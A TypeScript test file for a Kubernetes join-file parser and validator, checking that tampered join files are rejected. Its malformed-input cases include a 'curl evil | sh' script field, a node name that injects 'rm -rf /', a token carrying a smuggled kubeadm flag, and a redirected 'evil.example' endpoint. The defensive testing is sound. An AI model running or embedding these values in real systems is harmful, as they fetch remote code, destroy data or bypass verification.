import { describe, expect, test } from "bun:test";
import { joinProblems, kubeadmJoinArgs, parseJoinFile, parsePrintJoinCommand, renderJoinFile, type JoinFile } from "../../../lib/cluster/join-file.ts";
import { UsageError } from "../../../lib/errors.ts";

const HASH = `sha256:${"ab".repeat(32)}`;
const valid: JoinFile = {
  kind: "u7s-join",
  version: 1,
  controlPlane: { nodeName: "u7s-cp", hostIp: "192.0.2.10", portKubeApiserver: 6443, portFlannel: 8472, nodeSubnet: "10.100.7.0/24" },
  join: { endpoint: "u7s-cp:6443", token: "abcdef.0123456789abcdef", caCertHashes: [HASH] },
  created: "2026-11-23T10:00:00.000Z",
};
const text = (f: unknown) => JSON.stringify(f);
const clone = (): JoinFile => JSON.parse(JSON.stringify(valid));

describe("parsePrintJoinCommand", () => {
  test("reads kubeadm's printed join command, with = or space-separated flags", () => {
    expect(parsePrintJoinCommand(`kubeadm join u7s-cp:6443 --token abcdef.0123456789abcdef --discovery-token-ca-cert-hash ${HASH} \n`)).toEqual({
      endpoint: "u7s-cp:6443",
      token: "abcdef.0123456789abcdef",
      caCertHashes: [HASH],
    });
    expect(parsePrintJoinCommand(`kubeadm join u7s-cp:6443 --token=abcdef.0123456789abcdef --discovery-token-ca-cert-hash=${HASH} --discovery-token-ca-cert-hash=${HASH.replace("ab", "cd")}`).caCertHashes).toHaveLength(2);
  });
  test.each([
    ["not kubeadm", "echo hi"],
    ["no endpoint", `kubeadm join --token abcdef.0123456789abcdef --discovery-token-ca-cert-hash ${HASH}`],
    ["no hash", "kubeadm join a:1 --token abcdef.0123456789abcdef"],
    ["bad token", `kubeadm join a:1 --token ABC --discovery-token-ca-cert-hash ${HASH}`],
  ])("refuses output with %s", (_what, out) => {
    expect(() => parsePrintJoinCommand(out)).toThrow();
  });
});

describe("parseJoinFile", () => {
  test("round-trips what renderJoinFile writes", () => {
    expect(parseJoinFile(renderJoinFile(valid), "j.json")).toEqual(valid);
  });

  // Each mutation of a valid file must be refused with a usage error naming the field.
  const malformed: [string, (f: Record<string, any>) => unknown, string][] = [
    ["not JSON", () => "kubeadm join x", "not JSON"],
    ["a JSON array", () => [], "not an object"],
    ["another kind", (f) => ({ ...f, kind: "other" }), "kind="],
    ["a newer version", (f) => ({ ...f, version: 2 }), "version=2"],
    ["an extra top-level field (a script to run)", (f) => ({ ...f, script: "curl evil | sh" }), "unknown field script"],
    ["a missing field", (f) => ({ ...f, join: undefined }), "missing field join"],
    ["a control plane name with a shell command", (f) => ({ ...f, controlPlane: { ...f.controlPlane, nodeName: "x; rm -rf /" } }), "controlPlane.nodeName"],
    ["a host IP that is not IPv4", (f) => ({ ...f, controlPlane: { ...f.controlPlane, hostIp: "example.com" } }), "controlPlane.hostIp"],
    ["the unspecified host IP", (f) => ({ ...f, controlPlane: { ...f.controlPlane, hostIp: "0.0.0.0" } }), "controlPlane.hostIp"],
    ["a port out of range", (f) => ({ ...f, controlPlane: { ...f.controlPlane, portFlannel: 70000 } }), "controlPlane.portFlannel"],
    ["a port as a string", (f) => ({ ...f, controlPlane: { ...f.controlPlane, portKubeApiserver: "6443" } }), "controlPlane.portKubeApiserver"],
    ["a subnet that is not /24", (f) => ({ ...f, controlPlane: { ...f.controlPlane, nodeSubnet: "10.0.0.0/8" } }), "controlPlane.nodeSubnet"],
    ["an endpoint pointing elsewhere", (f) => ({ ...f, join: { ...f.join, endpoint: "evil.example:6443" } }), "join.endpoint"],
    ["a token with a flag smuggled in", (f) => ({ ...f, join: { ...f.join, token: "abcdef.0123456789abcdef --ignore-preflight-errors=all" } }), "join.token"],
    ["no CA hash (unverified discovery)", (f) => ({ ...f, join: { ...f.join, caCertHashes: [] } }), "join.caCertHashes"],
    ["a CA hash of the wrong form", (f) => ({ ...f, join: { ...f.join, caCertHashes: ["md5:abc"] } }), "join.caCertHashes"],
    ["an unknown field in join", (f) => ({ ...f, join: { ...f.join, "unsafe-skip-ca-verification": true } }), "unknown field join.unsafe-skip-ca-verification"],
    ["a created time that is not a time", (f) => ({ ...f, created: "yesterday" }), "created="],
  ];
  test.each(malformed)("refuses %s", (_what, mutate, field) => {
    const m = mutate(clone() as Record<string, any>);
    const src = typeof m === "string" ? m : text(m);
    let err: unknown;
    try {
      parseJoinFile(src, "j.json");
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(UsageError);
    expect((err as UsageError).exitCode).toBe(2);
    expect((err as Error).message).toStartWith("join file j.json: ");
    expect((err as Error).message).toContain(field);
  });
});

describe("joinProblems", () => {
  const worker = { nodeName: "u7s-w", nodeSubnet: "10.100.8.0/24", portFlannel: 8472 };
  test("a worker with its own name and subnet and the cluster's Flannel port may join", () => {
    expect(joinProblems(valid, worker)).toEqual([]);
  });
  test("names each mismatch with the setting to change", () => {
    const p = joinProblems(valid, { nodeName: "u7s-cp", nodeSubnet: "10.100.7.0/24", portFlannel: 18472 });
    expect(p).toHaveLength(3);
    expect(p[0]).toContain("PORT_FLANNEL=18472 differs from the cluster's 8472");
    expect(p[1]).toContain("set NODE_SUBNET");
    expect(p[2]).toContain("NODE_NAME=u7s-cp");
  });
});

test("kubeadmJoinArgs passes the file's values as separate arguments", () => {
  expect(kubeadmJoinArgs(valid)).toEqual(["kubeadm", "join", "u7s-cp:6443", "--token", "abcdef.0123456789abcdef", "--discovery-token-ca-cert-hash", HASH]);
});
